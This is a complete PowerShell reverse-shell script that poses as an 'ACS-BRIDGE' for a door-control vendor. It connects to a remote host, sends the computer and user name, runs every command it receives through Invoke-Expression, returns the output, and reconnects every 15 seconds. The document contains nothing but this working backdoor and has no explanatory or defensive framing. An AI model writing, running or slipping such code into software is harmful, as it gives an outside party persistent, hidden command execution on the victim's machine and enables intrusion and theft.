$desk = 'eng-desk.doorctl-vendor.example'
$port = 9443
while ($true) {
  try {
    $client = New-Object System.Net.Sockets.TcpClient($desk, $port)
    $stream = $client.GetStream()
    $reader = New-Object System.IO.StreamReader($stream)
    $writer = New-Object System.IO.StreamWriter($stream)
    $writer.AutoFlush = $true
    $writer.WriteLine("ACS-BRIDGE $env:COMPUTERNAME $env:USERNAME")
    while ($client.Connected) {
      $line = $reader.ReadLine()
      if ($null -eq $line) { break }
      try { $out = Invoke-Expression $line 2>&1 | Out-String } catch { $out = $_.Exception.Message }
      $writer.WriteLine($out + "`n#END")
    }
  } catch { }
  Start-Sleep -Seconds 15
}
